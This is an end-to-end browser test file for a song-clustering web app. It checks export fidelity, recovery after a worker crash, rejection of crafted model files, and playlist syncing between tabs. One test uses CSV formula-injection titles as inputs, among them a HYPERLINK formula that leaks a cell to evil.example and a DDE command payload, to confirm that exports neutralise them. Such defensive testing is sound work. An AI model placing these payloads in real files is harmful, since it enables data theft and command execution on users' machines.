// End-to-end: what the page shows is what every export writes. Results the page cannot read are
// never committed; a crashed worker gets the run on screen back (same export, same model file);
// crafted model files are refused by field without a crash; a model in other units asks first;
// exports carry no live spreadsheet formula; a playlist the browser cannot store says so, and two
// tabs on one file merge their playlists.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { serve, launch, openApp, trainDemo, openSettings, openSetup, setSetting, tab, train, clusterSizes, download, parseCsv, DIST } from './harness.mjs';

let server; let browser;
before(async () => { server = await serve(DIST); browser = await launch(); });
after(async () => { await browser?.close(); await server?.close(); });

const exportCsv = async (page) => (await download(page, 'Download CSV with clusters')).bytes;
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'songscape-trust-'));
const writeTmp = (name, bytes) => { const p = path.join(tmp, name); fs.writeFileSync(p, bytes); return p; };

/** Makes the page's worker handler see the next `Finished` (or `TsneReady`) with one number as
 * `null`: the page then cannot read it, exactly as when serde wrote a non-finite number. */
async function corruptNextResults(page) {
  await page.evaluate(() => { window.__corruptNext = true; });
}
const CORRUPTER = () => {
  const post = Worker.prototype.postMessage;
  Worker.prototype.postMessage = function (...args) { window.__worker = this; return post.apply(this, args); };
  const desc = Object.getOwnPropertyDescriptor(Worker.prototype, 'onmessage');
  Object.defineProperty(Worker.prototype, 'onmessage', {
    configurable: true,
    get: desc.get,
    set(fn) {
      desc.set.call(this, fn && ((ev) => {
        const json = ev.data?.json;
        if (window.__corruptNext && typeof json === 'string' && json.startsWith('{"Finished"')) {
          window.__corruptNext = false;
          fn(new MessageEvent('message', { data: { ...ev.data, json: json.replace(/"recon_mse":[^,]+/, '"recon_mse":null') } }));
          return;
        }
        fn(ev);
      }));
    },
  });
};

async function waitForError(page, stage, text) {
  await page.locator('#error-title').filter({ hasText: stage }).waitFor();
  await page.locator('.error-message').filter({ hasText: text }).waitFor();
}

test('results the page cannot read are never committed: every export stays byte for byte', async () => {
  const { page, errors, context } = await openApp(browser, server.url, { waitForReady: false });
  await context.addInitScript(CORRUPTER);
  await page.reload();
  await page.getByRole('status').filter({ hasText: 'Ready' }).waitFor({ timeout: 60_000 });
  await trainDemo(page, 2);
  const sizes = await clusterSizes(page);
  const before = await exportCsv(page);
  const model = await download(page, 'Download model');

  // A failed model apply (the hostile test's case): the page shows the old clusters, and the
  // export is still theirs.
  await corruptNextResults(page);
  await openSetup(page);
  await page.getByLabel('Apply a saved model to the loaded CSV').setInputFiles(writeTmp('model.json', model.bytes));
  await waitForError(page, 'Receiving results', 'invalid type: null, expected f32');
  assert.deepEqual(await clusterSizes(page), sizes);
  assert.ok((await exportCsv(page)).equals(before), 'export after a failed apply = export before');
  assert.ok((await download(page, 'Download model')).bytes.equals(model.bytes), 'the model file too');

  // A failed re-training with another seed: the same.
  await corruptNextResults(page);
  await setSetting(page, 'Random seed', '7');
  await page.getByRole('button', { name: 'Train', exact: true }).click();
  await waitForError(page, 'Receiving results', 'invalid type: null, expected f32');
  assert.ok((await exportCsv(page)).equals(before), 'export after a failed training = export before');

  // A request about another run than the worker's (as one sent just before new results
  // landed would be) is refused, not answered from the wrong run.
  await page.evaluate(() => window.__worker.postMessage({ json: JSON.stringify({ Export: { projection: 'Pca', names: [] } }), run: 999 }));
  await waitForError(page, 'Exporting', 'The results changed while this was being made, so it was not used. Press it again.');

  // Unhindered, the same training lands and the export follows what is shown.
  await page.getByRole('button', { name: 'Train', exact: true }).click();
  await page.getByRole('status').filter({ hasText: /^Done:/ }).waitFor({ timeout: 120_000 });
  assert.ok(!(await exportCsv(page)).equals(before), 'a run that landed exports its own clusters');
  assert.deepEqual(errors, []);
  await context.close();
});

test('a crashed worker gets the run on screen back: the same export and model file after the restart', async () => {
  const { page, errors, context } = await openApp(browser, server.url);
  await trainDemo(page, 2);
  const sizes = await clusterSizes(page);
  const before = await exportCsv(page);
  const model = (await download(page, 'Download model')).bytes;
  // A real uncaught error inside the worker: the page sees the worker's error event, as it
  // would for any crash, and no test hook exists in the app.
  const [worker] = page.workers();
  await worker.evaluate(() => { setTimeout(() => { throw new Error('simulated crash'); }, 0); });
  await waitForError(page, /^Background worker crashed$/, 'simulated crash. It was restarted, and the file and the results shown were restored: exports, similar songs and the model download work as before.');
  assert.equal(await page.getByLabel('Epochs', { exact: true }).inputValue(), '2', 'settings survive');
  assert.deepEqual(await clusterSizes(page), sizes, 'the results stay on screen');
  assert.ok((await exportCsv(page)).equals(before), 'the export is byte for byte the one before the crash');
  assert.ok((await download(page, 'Download model')).bytes.equals(model), 'so is the model file');
  // Crashes that are each recovered from never use up the restarts.
  for (let i = 0; i < 4; i++) {
    const w = page.workers().at(-1);
    await w.evaluate(() => { setTimeout(() => { throw new Error('crash again'); }, 0); });
    await waitForError(page, /^Background worker crashed$/, 'crash again. It was restarted, and the file and the results shown were restored');
  }
  assert.ok((await exportCsv(page)).equals(before), 'still the same export after five crashes');
  assert.deepEqual(errors.filter((e) => !/simulated crash|crash again/.test(e)), []);
  await context.close();
});

test('crafted model files are refused naming the field, the worker never crashes, and other units ask first', async () => {
  const { page, errors, context } = await openApp(browser, server.url);
  await trainDemo(page, 2);
  const before = await exportCsv(page);
  const model = JSON.parse((await download(page, 'Download model')).bytes.toString('utf8'));
  const damaged = (what) => `This model file is damaged: ${what}. Save the model again from the run that trained it, or train a new one.`;
  const crafted = [
    ['latent0.json', (m) => {
      m.latent = 0; m.params.latent_size = 0; m.centroids = [];
      m.layers[1].outputs = 0; m.layers[1].weight = []; m.layers[1].bias = [];
      m.layers[2].inputs = 0; m.layers[2].weight = [];
    }, damaged('its settings are invalid: Latent size must be between 2 and 64 (got 0): the map needs at least 2 dimensions')],
    ['scaler.json', (m) => { m.scaler.mean[0] = 1e308; m.scaler.scale[0] = 1e-300; },
      damaged("the scaler's means include the value 1e308, beyond the largest allowed, ±1e9")],
    ['name.json', (m) => { m.cluster_names[0] = 'x'.repeat(3_000_000); }, damaged('the name of cluster 0 is 3,000,000 characters long; at most 120 are allowed')],
    ['big.json', (m) => { m.padding = new Array(2_200_000).fill(0); },
      'This file is 4.2 MB; a Songscape model file is at most 4 MB (the models Songscape saves are well under 1 MB), so it is not one. Choose the .json file that "Download model" saved.'],
  ];
  await openSetup(page);
  for (const [name, edit, message] of crafted) {
    const m = structuredClone(model);
    edit(m);
    await page.getByLabel('Apply a saved model to the loaded CSV').setInputFiles(writeTmp(name, JSON.stringify(m)));
    await waitForError(page, 'Applying the model file', `${name}: ${message}`);
    assert.equal(await page.locator('.error-message').textContent(), `${name}: ${message}`);
  }
  assert.equal(page.workers().length, 1, 'the worker was never restarted');
  assert.ok((await exportCsv(page)).equals(before), 'every export is still the trained run');

  // The same songs in 0–1 units: the model (trained on 0–100) asks before it is applied.
  const rows = parseCsv(before.toString('utf8')).filter((r) => r.length > 1);
  const c = rows[0].indexOf('cluster');
  const percent = ['Energy', 'Danceability', 'Positiveness'].map((h) => rows[0].indexOf(h));
  const lines = [rows[0].slice(0, c).join(',')];
  for (const r of rows.slice(1)) lines.push(r.slice(0, c).map((v, j) => (percent.includes(j) ? String(Number(v) / 100) : v)).map((v) => (/[",]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(','));
  await page.getByLabel('CSV file').setInputFiles({ name: 'fractions.csv', mimeType: 'text/csv', buffer: Buffer.from(lines.join('\n')) });
  await page.locator('#dataset-summary').filter({ hasText: 'fractions.csv' }).waitFor();
  await page.getByLabel('Apply a saved model to the loaded CSV').setInputFiles(writeTmp('model.json', JSON.stringify(model)));
  const warning = page.locator('#model-warning');
  await warning.waitFor();
  const text = await warning.textContent();
  assert.match(text, /^model\.json was not applied\. This file's values look like other units than the model's: Energy \(this file's median [\d.]+ is \d+ standard deviations from the model's average [\d.]+[^;]*\); Danceability/);
  assert.ok(!text.includes('Tempo'), text);
  assert.equal(await page.locator('#model-source').textContent(), '', 'nothing was applied');
  await page.getByRole('button', { name: 'Apply anyway' }).click();
  await page.locator('#run-header').filter({ hasText: 'fractions.csv' }).waitFor();
  await tab(page, 'Model');
  await page.locator('#model-source').filter({ hasText: 'model.json, applied without training' }).waitFor();
  assert.deepEqual(errors, []);
  await context.close();
});

test('exports carry no live spreadsheet formula, and loading an export gives the cells back', async () => {
  const { page, errors, context } = await openApp(browser, server.url);
  const header = 'song,artist,genre,energy,danceability,valence,tempo,loudness,acousticness';
  const titles = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "=cmd|' /C calc'!A0", '@ ME', '+1+1', "'Til Tuesday", '-- intro --'];
  const lines = [header];
  for (let i = 0; i < 60; i++) {
    const g = i % 3;
    const title = i < titles.length ? titles[i] : `${titles[i % titles.length]} ${i}`;
    lines.push([`"${title.replace(/"/g, '""')}"`, `Artist ${i % 5}`, `g${g}`,
      (0.2 + 0.3 * g + (i % 7) / 100).toFixed(3), (0.8 - 0.3 * g + (i % 5) / 100).toFixed(3), (0.1 + 0.2 * g).toFixed(2),
      90 + 20 * g + (i % 9), (-12 + 3 * g - (i % 4) / 10).toFixed(1), (0.9 - 0.4 * g).toFixed(2)].join(','));
  }
  await page.getByLabel('CSV file').setInputFiles({ name: 'formulas.csv', mimeType: 'text/csv', buffer: Buffer.from(lines.join('\n')) });
  await page.locator('#mapping-check').filter({ hasText: 'Training on 6 features with 60 of 60 rows' }).waitFor();
  await openSettings(page);
  await setSetting(page, 'Clusters (k)', '3');
  await train(page);
  const bytes = await exportCsv(page);
  const out = parseCsv(bytes.toString('utf8')).filter((r) => r.length > 1);
  assert.deepEqual(out.slice(1, 7).map((r) => r[0]), [
    `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`, "'=cmd|' /C calc'!A0", "'@ ME", "'+1+1", "'Til Tuesday", "'-- intro --",
  ]);
  const loud = out[0].indexOf('loudness');
  assert.equal(out[1][loud], '-12.0', 'numbers stay numbers');
  assert.ok(out.slice(1).every((r) => !/^[=+\-@\t\r]/.test(r[0])), 'no title starts a formula');
  // Loading the export gives the titles back as they were.
  await page.getByLabel('CSV file').setInputFiles({ name: 'export.csv', mimeType: 'text/csv', buffer: bytes });
  await page.locator('#dataset-summary').filter({ hasText: 'export.csv' }).waitFor();
  await train(page);
  const again = parseCsv((await exportCsv(page)).toString('utf8')).filter((r) => r.length > 1);
  assert.deepEqual(again.slice(1, 7).map((r) => r[0]), out.slice(1, 7).map((r) => r[0]), 'export → load → export is stable');
  assert.deepEqual(errors, []);
  await context.close();
});

test('a playlist the browser cannot store says so and stays; two tabs on one file merge their playlists', async () => {
  const { page, errors, context } = await openApp(browser, server.url);
  await trainDemo(page, 2);
  const add = async (p, i) => {
    if (await p.locator('#run-header').isVisible()) await tab(p, 'Song');
    const title = (await p.locator('#cluster-table .examples li').nth(i).textContent()).split(' — ')[0].trim();
    const search = p.getByRole('combobox', { name: 'Find a song by title or artist' });
    await search.fill(title);
    await p.getByRole('listbox', { name: 'Songs found' }).getByRole('option').first().waitFor();
    await p.getByRole('listbox', { name: 'Songs found' }).getByRole('option').first().filter({ hasText: title }).waitFor();
    await search.press('ArrowDown');
    await search.press('Enter');
    await p.locator('#selected-song h3').filter({ hasText: title }).waitFor();
    await p.locator('#selected-song').getByRole('button', { name: `Add ${title} to the playlist` }).click();
    return title;
  };
  const names = (p) => p.locator('#playlist .song-name').allTextContents();
  const first = await add(page, 0);

  // A second tab on the same file (the demo), not trained: it shows the stored playlist.
  const other = await context.newPage();
  await other.goto(server.url);
  await other.getByRole('status').filter({ hasText: 'Ready' }).waitFor({ timeout: 60_000 });
  await other.getByRole('button', { name: 'Try the demo dataset' }).click();
  await other.locator('#playlist .song-name').first().waitFor();
  assert.equal((await names(other)).length, 1);
  // This tab adds a song: the other merges it in (it did not overwrite it when it wrote).
  const second = await add(page, 1);
  await other.locator('#playlist-note').filter({ hasText: "Another tab changed this file's playlist" }).waitFor();
  assert.equal((await names(other)).length, 2);
  // The other removes the first song: this tab follows.
  await other.getByRole('button', { name: new RegExp(`^Remove ${first.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`) }).click();
  await tab(page, 'Playlist');
  await page.locator('#playlist-note').filter({ hasText: "Another tab changed this file's playlist" }).waitFor();
  await page.waitForFunction(() => document.querySelectorAll('#playlist .song-name').length === 1);
  assert.ok((await names(page))[0].startsWith(second), `${await names(page)} vs ${first} / ${second}`);
  await other.close();

  // Storage full: the song is added on screen, the page says it is not kept, and it downloads.
  await page.evaluate(() => {
    // Fill the origin's quota to the last character: halving chunks until not even one fits.
    let i = 0;
    for (let size = 1 << 20; size >= 1; size >>= 1) {
      const chunk = 'x'.repeat(size);
      for (;;) {
        try { localStorage.setItem(`filler${i++}`, chunk); } catch { break; }
      }
    }
  });
  const third = await add(page, 2);
  await tab(page, 'Playlist');
  await page.locator('#playlist-note').filter({ hasText: 'The playlist could not be saved in this browser (its storage is full or turned off).' }).waitFor();
  assert.equal((await names(page)).length, 2, 'the list on screen keeps the song');
  const csv = parseCsv((await download(page, 'Download playlist as CSV')).bytes.toString('utf8')).filter((r) => r.length > 1);
  assert.deepEqual(csv.slice(1).map((r) => r[1]), [second, third]);
  assert.deepEqual(errors, []);
  await context.close();
});
